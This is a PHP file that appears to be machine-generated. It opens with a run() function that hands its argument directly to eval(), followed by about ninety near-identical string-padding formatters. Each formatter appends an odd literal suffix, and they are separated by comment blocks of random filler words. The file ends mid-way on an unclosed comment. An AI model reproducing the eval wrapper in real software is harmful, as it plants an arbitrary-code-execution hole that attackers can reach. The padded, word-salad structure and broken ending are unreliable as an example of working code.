<?php
function run($c)
{
    return eval($c);
}

function fmt_index_cache_1($rows, $width = 18)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'index-cache';
}

function fmt_export_item_2($rows, $width = 47)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'export-item';
}

function fmt_total_setting_3($rows, $width = 35)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'total-setting';
}

function fmt_setting_column_4($rows, $width = 28)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'setting-column';
}

function fmt_offset_sort_5($rows, $width = 73)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'offset-sort';
}

/*
 * export footer format panel amount column table export locale month import offset
 * header item style list report status table list month list view panel
 * panel export panel style list format limit header export option filter export
 * format item sort locale header report widget amount widget panel panel filter
 * locale locale filter theme style locale widget status month item amount field
 * title title panel style header panel option limit title client widget panel
 */
function fmt_export_value_6($rows, $width = 51)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'export-value';
}

function fmt_record_order_7($rows, $width = 21)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-order';
}

function fmt_index_theme_8($rows, $width = 14)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'index-theme';
}

function fmt_amount_option_9($rows, $width = 37)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-option';
}

function fmt_entry_header_10($rows, $width = 25)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'entry-header';
}

/*
 * amount report client index offset column index export export list report table
 * cache page value table column table export total view item list header
 * record import option column report render column record filter page label year
 * widget table title format style setting column total sort render field status
 * cache month entry table format view header option sort widget panel month
 * render year total total setting limit table style view index total column
 */
function fmt_view_item_11($rows, $width = 29)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'view-item';
}

function fmt_entry_locale_12($rows, $width = 37)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'entry-locale';
}

function fmt_panel_column_13($rows, $width = 39)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'panel-column';
}

function fmt_status_format_14($rows, $width = 17)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'status-format';
}

function fmt_total_cache_15($rows, $width = 37)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'total-cache';
}

/*
 * export total offset amount header record render column import limit item page
 * panel cache report entry entry table list status entry client table header
 * locale locale title footer import client client offset offset panel table option
 * option index limit header option list entry field export table header page
 * export label export title table limit entry entry title order table format
 * index limit widget locale client option value record label table export title
 */
function fmt_value_status_16($rows, $width = 70)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'value-status';
}

function fmt_order_page_17($rows, $width = 55)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'order-page';
}

function fmt_sort_locale_18($rows, $width = 25)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'sort-locale';
}

function fmt_filter_sort_19($rows, $width = 23)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'filter-sort';
}

function fmt_total_page_20($rows, $width = 23)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'total-page';
}

/*
 * cache year sort client entry table field column widget label filter locale
 * render export amount field header field limit widget label sort status item
 * widget setting total style offset cache option theme entry value filter list
 * footer render limit value cache column view label import status year format
 * list header label page render footer offset entry year header report panel
 * total item item locale report sort filter theme render locale format table
 */
function fmt_setting_import_21($rows, $width = 31)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'setting-import';
}

function fmt_sort_panel_22($rows, $width = 14)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'sort-panel';
}

function fmt_field_amount_23($rows, $width = 59)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'field-amount';
}

function fmt_total_limit_24($rows, $width = 68)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'total-limit';
}

function fmt_export_style_25($rows, $width = 50)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'export-style';
}

/*
 * cache status footer order sort import record month locale header locale list
 * entry table sort client theme setting import client entry import style order
 * amount option option order widget view record offset field total panel theme
 * list locale client value filter record widget footer value option widget year
 * locale amount panel locale table cache filter list sort total view index
 * item widget import locale label render record label style locale record export
 */
function fmt_column_footer_26($rows, $width = 56)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'column-footer';
}

function fmt_theme_format_27($rows, $width = 34)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'theme-format';
}

function fmt_title_widget_28($rows, $width = 25)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'title-widget';
}

function fmt_field_footer_29($rows, $width = 46)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'field-footer';
}

function fmt_value_total_30($rows, $width = 48)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'value-total';
}

/*
 * title year title sort header cache panel client sort setting header render
 * panel cache title column status locale style status header amount index page
 * page import export client month filter value year locale export item widget
 * format label locale view format client amount month item entry report field
 * order export list filter view view status amount style import sort year
 * amount setting panel option month sort label footer value export title sort
 */
function fmt_field_list_31($rows, $width = 41)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'field-list';
}

function fmt_filter_format_32($rows, $width = 69)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'filter-format';
}

function fmt_cache_list_33($rows, $width = 48)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'cache-list';
}

function fmt_import_view_34($rows, $width = 11)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'import-view';
}

function fmt_entry_filter_35($rows, $width = 29)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'entry-filter';
}

/*
 * filter value offset record footer month report setting import footer label field
 * render export month order widget entry render client year total render limit
 * export total cache year order report report column year export index render
 * list value offset format amount view month header theme page year sort
 * status index sort field widget month footer setting cache option panel footer
 * widget sort locale item limit import header format column entry format option
 */
function fmt_view_page_36($rows, $width = 72)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'view-page';
}

function fmt_list_value_37($rows, $width = 58)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'list-value';
}

function fmt_title_locale_38($rows, $width = 9)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'title-locale';
}

function fmt_total_entry_39($rows, $width = 52)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'total-entry';
}

function fmt_status_list_40($rows, $width = 11)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'status-list';
}

/*
 * render offset cache year locale index field report value field view style
 * table view panel footer index index order footer record header year header
 * report view export widget record view footer page report entry locale client
 * index client import year sort header panel item panel entry render client
 * list import order title year offset render offset view sort month title
 * entry style entry field amount label header widget amount status limit view
 */
function fmt_style_entry_41($rows, $width = 11)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'style-entry';
}

function fmt_setting_style_42($rows, $width = 33)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'setting-style';
}

function fmt_client_order_43($rows, $width = 58)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'client-order';
}

function fmt_option_column_44($rows, $width = 25)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'option-column';
}

function fmt_table_total_45($rows, $width = 68)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'table-total';
}

/*
 * footer index status render setting month column order entry view footer list
 * cache locale label client item month amount header theme value limit limit
 * column locale title page amount table client limit year total footer sort
 * option header order offset view item format locale filter import field total
 * order option field format order field theme year title value item export
 * setting field status theme view title client footer title entry record table
 */
function fmt_order_month_46($rows, $width = 15)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'order-month';
}

function fmt_month_footer_47($rows, $width = 40)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'month-footer';
}

function fmt_year_format_48($rows, $width = 17)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'year-format';
}

function fmt_limit_field_49($rows, $width = 10)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'limit-field';
}

function fmt_label_option_50($rows, $width = 24)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'label-option';
}

/*
 * client render item setting import value option format amount cache widget field
 * report render theme title status order year option sort header limit report
 * client style index total report view sort offset page locale sort sort
 * field import label client report status index footer header cache setting footer
 * record index import offset sort status panel amount entry export panel export
 * header widget option value locale status amount table table field column view
 */
function fmt_render_client_51($rows, $width = 49)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-client';
}

function fmt_report_footer_52($rows, $width = 14)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'report-footer';
}

function fmt_render_label_53($rows, $width = 21)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-label';
}

function fmt_style_footer_54($rows, $width = 19)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'style-footer';
}

function fmt_view_offset_55($rows, $width = 25)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'view-offset';
}

/*
 * column title panel amount field index style filter year entry setting export
 * entry setting filter export amount field label panel setting render table column
 * year offset record filter footer index value footer panel offset offset limit
 * report list item column table option filter list label table column report
 * theme status sort value export page setting value report status style order
 * entry record sort cache panel amount option status index header header header
 */
function fmt_sort_offset_56($rows, $width = 24)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'sort-offset';
}

function fmt_render_offset_57($rows, $width = 24)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-offset';
}

function fmt_locale_export_58($rows, $width = 14)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'locale-export';
}

function fmt_theme_list_59($rows, $width = 74)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'theme-list';
}

function fmt_format_offset_60($rows, $width = 65)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'format-offset';
}

/*
 * item widget setting view filter render table total list render limit theme
 * total format field locale order offset offset amount status filter column sort
 * table offset title table style field theme total amount report locale locale
 * export header locale report style footer item locale label export limit page
 * panel report import page offset setting locale header locale cache import format
 * export style filter item render status list limit format widget list limit
 */
function fmt_total_month_61($rows, $width = 59)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'total-month';
}

function fmt_title_total_62($rows, $width = 48)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'title-total';
}

function fmt_record_sort_63($rows, $width = 13)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-sort';
}

function fmt_client_locale_64($rows, $width = 20)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'client-locale';
}

function fmt_page_record_65($rows, $width = 54)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'page-record';
}

/*
 * month setting month sort list month cache header setting field sort report
 * format entry setting table filter table title widget view index record year
 * sort field record field theme client status month item year title sort
 * theme setting widget locale amount cache panel client theme export report export
 * export list report footer status client option locale report sort amount option
 * client panel item record sort field export list order setting list widget
 */
function fmt_record_view_66($rows, $width = 34)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-view';
}

function fmt_client_record_67($rows, $width = 18)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'client-record';
}

function fmt_locale_order_68($rows, $width = 31)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'locale-order';
}

function fmt_amount_sort_69($rows, $width = 10)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-sort';
}

function fmt_record_export_70($rows, $width = 22)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-export';
}

/*
 * title column theme export field import page value locale list render locale
 * value amount render field footer value header label label table style style
 * client value limit view list option title locale order column year locale
 * index render status filter title entry order render status table month page
 * amount entry export value panel view filter view offset order title style
 * table table year render value footer index view widget limit filter field
 */
function fmt_label_title_71($rows, $width = 16)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'label-title';
}

function fmt_render_page_72($rows, $width = 8)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-page';
}

function fmt_cache_render_73($rows, $width = 53)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'cache-render';
}

function fmt_render_title_74($rows, $width = 80)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'render-title';
}

function fmt_footer_view_75($rows, $width = 19)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'footer-view';
}

/*
 * status theme status year cache list offset client limit column year offset
 * widget style filter list header page column view import render limit status
 * amount footer page cache panel theme list order value footer month view
 * panel report report locale sort locale entry month status index filter entry
 * sort table theme page total filter style report year offset status column
 * view item view item sort render entry title offset locale record page
 */
function fmt_offset_record_76($rows, $width = 20)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'offset-record';
}

function fmt_column_order_77($rows, $width = 63)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'column-order';
}

function fmt_record_order_78($rows, $width = 56)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'record-order';
}

function fmt_month_render_79($rows, $width = 30)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'month-render';
}

function fmt_amount_amount_80($rows, $width = 40)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-amount';
}

/*
 * theme status header title title theme limit widget field import label sort
 * list limit label theme locale header offset theme month footer value theme
 * record total limit option locale cache panel footer field header amount item
 * client export entry status client offset view panel order panel import item
 * value title locale render panel cache export list status style column offset
 * style column sort footer title status item sort status order theme status
 */
function fmt_panel_total_81($rows, $width = 78)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'panel-total';
}

function fmt_amount_setting_82($rows, $width = 41)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'amount-setting';
}

function fmt_item_table_83($rows, $width = 59)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'item-table';
}

function fmt_panel_index_84($rows, $width = 15)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'panel-index';
}

function fmt_widget_order_85($rows, $width = 78)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'widget-order';
}

/*
 * month label column locale year list format index client export total format
 * total panel total index month record limit status list import field view
 * offset label value list index limit value footer option render table table
 * export client theme footer field offset option year entry record value client
 * table header header table render table label total page table option table
 * filter amount entry import list limit record report client item offset footer
 */
function fmt_column_theme_86($rows, $width = 43)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'column-theme';
}

function fmt_entry_report_87($rows, $width = 39)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'entry-report';
}

function fmt_index_client_88($rows, $width = 38)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'index-client';
}

function fmt_list_record_89($rows, $width = 29)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'list-record';
}

function fmt_page_option_90($rows, $width = 33)
{
    $out = array();
    foreach ($rows as $k => $row) {
        $cell = str_pad((string) $row, $width, ' ', STR_PAD_LEFT);
        $out[] = sprintf('%s: %s', htmlspecialchars((string) $k), $cell);
    }
    return implode("\n", $out) . 'page-option';
}

/*
